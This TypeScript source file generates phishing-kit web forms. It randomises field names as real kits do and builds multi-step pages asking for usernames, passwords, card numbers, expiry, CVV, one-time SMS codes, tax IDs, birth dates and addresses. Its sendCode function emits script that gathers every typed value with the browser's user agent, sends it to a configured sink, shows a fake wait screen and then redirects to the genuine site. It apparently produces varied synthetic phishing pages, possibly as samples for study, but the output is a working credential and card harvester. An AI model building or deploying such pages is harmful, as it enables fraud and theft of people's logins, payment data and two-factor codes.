import type { Chance } from '../../make/chance.ts'
import { type Element, el, type Node } from '../code/tree.ts'
import type { KitWords } from '../words/kit-words.ts'
import type { Sink } from './sinks.ts'

export type Ask =
  | 'user'
  | 'email'
  | 'phone'
  | 'taxNumber'
  | 'customer'
  | 'password'
  | 'card'
  | 'expiry'
  | 'cvv'
  | 'holder'
  | 'code'
  | 'birth'
  | 'address'

/** Names as kits give them to their fields. */
const NAMES: Readonly<Record<Ask, readonly string[]>> = {
  user: ['user', 'username', 'userid', 'u', 'usr', 'login', 'us3r', 'field1'],
  email: ['email', 'mail', 'login', 'e', 'ai', 'user'],
  phone: ['phone', 'tel', 'msisdn', 'mobile', 'ph'],
  taxNumber: ['rut', 'nif', 'taxid', 'doc', 'cpf', 'id_number'],
  customer: ['customer', 'clientid', 'kdnr', 'account', 'cid'],
  password: ['password', 'pass', 'pwd', 'pw', 'passwd', 'p', 'pr', 'clave', 'x2'],
  card: ['cc', 'card', 'cardnumber', 'num', 'ccnum', 'card_no', 'one'],
  expiry: ['exp', 'expiry', 'cc_exp', 'mmyy', 'two'],
  cvv: ['cvv', 'cvc', 'csc', 'three', 'securitycode'],
  holder: ['name', 'holder', 'ccname', 'fullname'],
  code: ['otp', 'code', 'sms', 'token', 'vbv', '2fa', 'smscode'],
  birth: ['dob', 'birth', 'bday'],
  address: ['address', 'addr', 'street', 'line1'],
}

type Attributes = Record<string, string>

function typed(ask: Ask, chance: Chance): Attributes {
  switch (ask) {
    case 'password':
      return chance.of<Attributes>([
        { type: 'password' },
        { type: 'password', autocomplete: 'current-password' },
        { type: 'password', autocomplete: 'off', maxlength: '20' },
        { type: 'text', style: '-webkit-text-security:disc', autocomplete: 'off' },
      ])
    case 'card':
      return chance.of<Attributes>([
        { type: 'tel', maxlength: '19', inputmode: 'numeric', autocomplete: 'cc-number' },
        { type: 'text', maxlength: '19', placeholder: '0000 0000 0000 0000' },
      ])
    case 'expiry':
      return { type: 'tel', maxlength: '5', placeholder: 'MM/YY' }
    case 'cvv':
      return chance.of<Attributes>([
        { type: 'tel', maxlength: '4', autocomplete: 'cc-csc' },
        { type: 'password', maxlength: '4', inputmode: 'numeric' },
      ])
    case 'code':
      return { type: 'tel', maxlength: '8', inputmode: 'numeric', autocomplete: 'one-time-code' }
    case 'email':
      return { type: chance.of(['email', 'text']), autocomplete: 'username' }
    case 'phone':
      return { type: 'tel' }
    default:
      return { type: 'text' }
  }
}

/** A field with its label in one of the ways that kits write them. */
export type FieldStyle = 'above' | 'placeholder' | 'floating' | 'row' | 'spoken'
export const FIELD_STYLES: readonly FieldStyle[] = [
  'above',
  'above',
  'placeholder',
  'floating',
  'row',
  'spoken',
]

function field(ask: Ask, words: KitWords, style: FieldStyle, chance: Chance): Element {
  const name = chance.of(NAMES[ask])
  const id = `${name}${chance.maybe(0.4) ? `_${chance.hex(3)}` : ''}`
  const label = words[ask]
  const input = (more: Attributes) =>
    el('input', {
      ...typed(ask, chance),
      name,
      id,
      class: 'in',
      ...more,
      ...(chance.maybe(0.8) ? { required: '' } : {}),
    })
  switch (style) {
    case 'placeholder':
      return el('div', { class: 'f' }, input({ placeholder: label }))
    case 'floating':
      return el('div', { class: 'f fl' }, input({ placeholder: ' ' }), el('label', { for: id }, label))
    case 'row':
      return el('div', { class: 'f row' }, el('span', { class: 'lb' }, `${label}:`), input({}))
    case 'spoken':
      return el('div', { class: 'f' }, el('p', { class: 'lb' }, label), input({ 'aria-label': label }))
    default:
      return el('div', { class: 'f' }, el('label', { for: id }, label), input({}))
  }
}

/** A box for each digit. */
function boxes(words: KitWords, chance: Chance): Element {
  const count = chance.of([4, 6, 6, 6, 8])
  return el(
    'div',
    { class: 'f otp' },
    el('p', { class: 'lb' }, words.code),
    Array.from({ length: count }, (_, index) =>
      el('input', {
        type: 'tel',
        name: `d${index + 1}`,
        maxlength: '1',
        class: 'bx',
        inputmode: 'numeric',
        'aria-label': `${index + 1}`,
      }),
    ),
  )
}

export interface Step {
  readonly asks: readonly Ask[]
  readonly heading: string
  readonly text: string
  readonly button: string
}

function formOf(step: Step, index: number, sink: Sink, words: KitWords, chance: Chance): Element {
  const style = chance.of(FIELD_STYLES)
  const attributes: Attributes = {
    id: `s${index}`,
    class: 'st',
    ...(index === 0 ? {} : { style: 'display:none' }),
    ...(sink.action === null
      ? { '@submit': 'send', ...(chance.maybe(0.4) ? { action: '#' } : {}) }
      : { method: 'post', action: sink.action }),
  }
  const fields = step.asks.map((ask) =>
    ask === 'code' && chance.maybe(0.3) ? boxes(words, chance) : field(ask, words, style, chance),
  )
  const extra: Node[] = []
  if (step.asks.includes('password') && chance.maybe(0.5))
    extra.push(
      el('label', { class: 'rm' }, el('input', { type: 'checkbox', name: 'remember' }), ` ${words.remember}`),
    )
  if (step.asks.includes('password') && chance.maybe(0.7))
    extra.push(el('p', { class: 'sm' }, el('a', { href: '#' }, words.forgot)))
  if (step.asks.includes('code')) extra.push(el('p', { class: 'sm' }, el('a', { href: '#' }, words.resend)))
  const button = chance.of([
    () => el('button', { type: 'submit', class: 'go' }, step.button),
    () => el('input', { type: 'submit', class: 'go', value: step.button }),
    () => el('button', { class: 'go', id: `b${index}` }, step.button),
  ])()
  const hidden = chance.maybe(0.3)
    ? [el('input', { type: 'hidden', name: 'sid', value: chance.hex(16) })]
    : []
  return el(
    'form',
    attributes,
    el('h2', {}, step.heading),
    el('p', { class: 'tx' }, step.text),
    hidden,
    fields,
    extra,
    button,
  )
}

/** All steps, the first of them shown; forms that are sent by themselves show one step only. */
export function formsOf(
  steps: readonly Step[],
  sink: Sink,
  words: KitWords,
  chance: Chance,
): readonly Node[] {
  const shown = sink.action === null ? steps : steps.slice(0, 1)
  const waiting =
    sink.action === null ? [el('div', { id: 'ld', class: 'ld', style: 'display:none' }, words.wait)] : []
  return [...shown.map((step, index) => formOf(step, index, sink, words, chance)), ...waiting]
}

/** The function that a form calls: it sends what was typed, shows the next step, and at the end the real site. */
export function sendCode(count: number, sink: Sink, after: string): string {
  if (sink.action !== null) return ''
  return `var step=0;
function send(ev){if(ev&&ev.preventDefault)ev.preventDefault();
var form=ev.target.form||ev.target,root=form.getRootNode(),data={};
for(var i=0;i<form.elements.length;i++){var q=form.elements[i];if(q.name)data[q.name]=q.value}
data.ua=navigator.userAgent;data.step=step;
${sink.send}
form.style.display="none";var ld=root.getElementById("ld");ld.style.display="block";
setTimeout(function(){ld.style.display="none";step++;var n=root.getElementById("s"+step);
if(step<${count}&&n){n.style.display="block"}else{location.href=${JSON.stringify(after)}}},2500);
return false}
window.send=send;`
}
